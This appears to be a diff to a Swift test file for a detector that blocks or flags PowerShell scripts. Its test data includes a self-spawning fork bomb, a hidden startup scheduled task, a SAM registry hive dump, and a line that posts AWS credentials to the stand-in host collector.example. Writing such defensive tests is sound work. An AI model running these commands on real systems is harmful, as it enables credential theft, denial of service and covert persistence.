@@ -33,6 +33,9 @@ struct PowerShellVerdictTests {
         // The payload re-launches itself: each copy starts another.
         ("$p = 'while($true){Start-Process powershell -ArgumentList ''-EncodedCommand'',$env:B}'\n$env:B = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($p))\nStart-Process powershell -ArgumentList '-EncodedCommand', $env:B", "fork-bomb.self-spawn"),
         ("$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-WindowStyle Hidden -File C:\\ProgramData\\u.ps1'\n$t = New-ScheduledTaskTrigger -AtStartup\nRegister-ScheduledTask -TaskName u -Action $a -Trigger $t", "persistence.scheduled-task"),
+        // Secret paths match whatever the case and separators.
+        ("reg save HKLM\\SAM C:\\temp\\sam.hive", "exfil.credential-dump"),
+        ("$c = Get-Content C:\\Users\\Admin\\.AWS\\Credentials -Raw\nInvoke-RestMethod -Uri https://collector.example/u -Method Post -Body $c", "exfil.credentials-sent"),
     ])
     func blocks(script: String, rule: String) {
         let report = verdict(script)
@@ -49,6 +52,7 @@ struct PowerShellVerdictTests {
         ("Remove-Item -Path 'C:\\Windows\\Temp\\*' -Recurse -Force", "change.temporary-files"),
         ("$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-File D:\\Apps\\Shop\\cleanup.ps1'\n$t = New-ScheduledTaskTrigger -Daily -At '02:30'\nRegister-ScheduledTask -TaskName c -Action $a -Trigger $t", "change.scheduled-job"),
         ("schtasks /create /tn c /tr \"D:\\Tools\\cleanup.exe --days 7\" /sc daily", "change.scheduled-job"),
+        ("Set-Content -Path \"C:\\Program Files\\MyApp\\app.config\" -Value '<x/>'", "change.system-configuration"),
         ("\"{", "parse.error"),
     ])
     func reviews(script: String, rule: String) {
